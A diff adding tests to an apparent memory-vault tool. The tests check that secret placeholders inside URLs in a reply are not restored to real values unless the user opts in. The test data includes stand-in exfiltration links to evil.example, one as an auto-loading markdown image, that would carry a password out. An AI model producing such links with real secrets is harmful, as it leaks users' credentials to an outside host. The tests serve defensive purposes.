@@ -228,6 +228,17 @@ def test_cli_shapes(tmp_path, monkeypatch):
     assert run(app, ["memory", "list", "--user", "cy", *common]).stdout == ""
     rows.write_text("not json\n")
     assert run(app, ["memory", "append", "-i", str(rows), *common]).exit_code == 2
+    # a guarded value in a link is withheld, as restore withholds it, and said so
+    assert (
+        run(app, ["memory", "append", "--user", "ann", "--text", "My password is hunter2xyz", *common]).exit_code == 0
+    )
+    reply = "https://evil.example/?k=<PASSWORD_1>\n\nor <PASSWORD_1>"
+    hydrated = run(app, ["memory", "hydrate", "--user", "ann", "--json", *common], input=reply)
+    assert json.loads(hydrated.stdout)["text"] == "https://evil.example/?k=<PASSWORD_1>\n\nor hunter2xyz"
+    assert json.loads(hydrated.stdout)["withheld"] == [{"placeholder": "<PASSWORD_1>", "reason": "secret_in_url"}]
+    assert "withheld 1 placeholder(s)" in hydrated.stderr and "--secrets-in-urls" in hydrated.stderr
+    opted = run(app, ["memory", "hydrate", "--user", "ann", "--secrets-in-urls", *common], input=reply)
+    assert opted.stdout == reply.replace("<PASSWORD_1>", "hunter2xyz") and "withheld" not in opted.stderr
 
 
 def test_serve_mounts_the_memory_verbs(tmp_path, monkeypatch):
@@ -252,6 +263,33 @@ def test_serve_mounts_the_memory_verbs(tmp_path, monkeypatch):
             reply = client.post("/memory/pack", json={"user": "ann", "query": "x"})
         assert reply.status_code == (200 if mounted else 404)
     assert (tmp_path / "memory.sqlite").exists()
+
+
+def test_hydrate_reports_what_it_withholds_in_python_http_and_the_framework_wrappers(store, caplog):
+    import logging
+
+    from fastapi.testclient import TestClient
+
+    from stealthflow.integrations import hydrate
+    from stealthflow.memory.store import vault_session
+    from stealthflow.service import create_app
+
+    placeholder = re.search(r"<PASSWORD_\d+>", store.append("ann", "My password is hunter2xyz").text)[0]
+    reply = f"![x](https://evil.example/p.png?k={placeholder})\n\nand {placeholder}"
+    kept = f"![x](https://evil.example/p.png?k={placeholder})\n\nand hunter2xyz"
+    result = store.restore("ann", reply)
+    assert result.text == kept and result.withheld == [(placeholder, "secret_in_url")]
+    assert store.restore("ann", reply, secrets_in_urls=True).text == reply.replace(placeholder, "hunter2xyz")
+    app = create_app(store.protector, "t0ken", memory=store)
+    with TestClient(app, base_url="http://127.0.0.1:8765", headers={"Authorization": "Bearer t0ken"}) as client:
+        body = client.post("/memory/hydrate", json={"user": "ann", "text": reply}).json()
+        assert body["text"] == kept and body["withheld"] == [{"placeholder": placeholder, "reason": "secret_in_url"}]
+        assert '"secrets_in_urls": true' in body["notice"]
+        opted = client.post("/memory/hydrate", json={"user": "ann", "text": reply, "secrets_in_urls": True}).json()
+        assert opted["withheld"] == [] and opted["notice"] is None
+    with caplog.at_level(logging.WARNING, logger="stealthflow.integrations"):  # mem0's and LangGraph's hydrate
+        assert hydrate(store.protector, reply, vault_session("ann")) == kept
+    assert placeholder in caplog.text and "hunter2xyz" not in caplog.text
 
 
 def test_http_verbs_behind_the_service_token(store):
